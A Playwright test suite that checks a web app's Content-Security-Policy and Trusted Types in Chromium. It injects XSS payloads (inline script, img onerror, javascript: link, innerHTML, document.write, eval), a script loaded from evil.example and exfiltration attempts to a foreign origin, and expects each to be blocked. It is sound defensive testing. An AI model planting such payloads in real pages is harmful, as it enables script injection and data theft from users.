// The Content-Security-Policy: the app works under it (every test of this suite checks that), an injected script does not.
import { startForeignSite } from "../support/foreign-site.ts";
import { expect, test } from "../support/test.ts";

test.use({ allowed: { violations: true, scriptErrors: /TrustedHTML|TrustedScript|Trusted Type/ } });

test("Chromium runs no script that somebody managed to put into the page", async ({ page, context, seen }) => {
  await context.route("**/profile", async (route) => {
    const response = await route.fetch();
    const injected = `<script>window.injected = "inline"</script><img src="/none" onerror="window.injected = 'handler'">
      <a href="javascript:window.injected='address'">Click me</a></body>`;
    await route.fulfill({ response, body: (await response.text()).replace("</body>", injected) });
  });
  await page.goto("/profile");
  // The app itself is not harmed.
  await expect(page.getByRole("heading", { level: 1, name: "Profile" })).toBeVisible();
  await page.getByRole("link", { name: "Click me" }).click();
  await expect
    .poll(() => seen.violations.filter(({ blocked }) => blocked === "inline").length)
    .toBeGreaterThanOrEqual(3);
  expect(await page.evaluate(() => (window as unknown as { injected?: string }).injected)).toBeUndefined();
});

test("Chromium lets scripts of the page turn no text into markup or code", async ({ page }) => {
  await page.goto("/");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  const refused = await page.evaluate(async () => {
    // In a task of the page's own: what the test evaluates itself is exempt from the policy.
    await new Promise((resolve) => setTimeout(resolve));
    const attempts: [string, () => void][] = [
      ["innerHTML", () => void (document.body.innerHTML = "<img src=x onerror=alert(1)>")],
      ["document.write", () => document.write("<script>alert(1)</script>")],
      ["script text", () => void (document.createElement("script").text = "alert(1)")],
      ["script address", () => void (document.createElement("script").src = "https://evil.example/x.js")],
      ["eval", () => void (Reflect.get(globalThis, "eval") as (code: string) => unknown)("1")],
      [
        "a policy of its own",
        () =>
          void (
            window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
          ).trustedTypes.createPolicy("x", { createHTML: (text: string) => text }),
      ],
    ];
    return attempts.map(([name, attempt]) => {
      try {
        attempt();
        return [name, "went through"];
      } catch {
        return [name, "refused"];
      }
    });
  });
  expect(refused.filter(([, outcome]) => outcome !== "refused")).toEqual([]);
});

test("Chromium sends nothing from the page to another origin", async ({ loggedIn, person, seen }) => {
  const foreign = await startForeignSite();
  await loggedIn.goto("/profile");
  await expect(loggedIn.getByRole("banner")).toContainText(person.name);
  for (const target of [foreign.crossSite, foreign.sameSite]) {
    const outcome = await loggedIn.evaluate(async (url) => {
      const image = new Promise((resolve) => {
        const node = new Image();
        node.onload = () => resolve("loaded");
        node.onerror = () => resolve("refused");
        node.src = `${url}/image?stolen`;
      });
      const request = fetch(`${url}/fetch?stolen`, { mode: "no-cors" }).then(
        () => "sent",
        () => "refused",
      );
      navigator.sendBeacon(`${url}/beacon?stolen`);
      return [await image, await request];
    }, target);
    expect(outcome).toEqual(["refused", "refused"]);
  }
  await expect
    .poll(() => new Set(seen.violations.map(({ directive }) => directive)))
    .toEqual(new Set(["img-src", "connect-src"]));
  expect(foreign.received).toEqual([]);
  await foreign.stop();
});

test("every document, answer and error of the gateway carries its policy", async ({ request, system }) => {
  for (const { path, status, policy } of [
    { path: "/", status: 200, policy: /script-src 'self'.*frame-ancestors 'none'.*require-trusted-types-for 'script'/ },
    { path: "/profile", status: 200, policy: /script-src 'self'.*frame-ancestors 'none'/ },
    { path: "/favicon.svg", status: 200, policy: /default-src 'none'/ },
    { path: "/no-such-file.js", status: 404, policy: /default-src 'none'/ },
    { path: "/bff/user", status: 403, policy: /default-src 'none'; frame-ancestors 'none'; sandbox/ },
    { path: "/bff/nothing", status: 403, policy: /default-src 'none'; frame-ancestors 'none'; sandbox/ },
    { path: "/bff/callback", status: 400, policy: /default-src 'none'.*frame-ancestors 'none'/ },
    { path: "/api/protected", status: 403, policy: /default-src 'none'/ },
  ]) {
    const response = await request.get(system.origin + path);
    const headers = response.headers();
    expect([path, response.status()]).toEqual([path, status]);
    expect(headers["content-security-policy"], path).toMatch(policy);
    expect(headers["content-security-policy"], path).not.toMatch(/unsafe-inline|unsafe-eval|\*|data:/);
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    expect(headers["x-frame-options"], path).toBe("DENY");
    expect(headers["access-control-allow-origin"], path).toBeUndefined();
  }
});
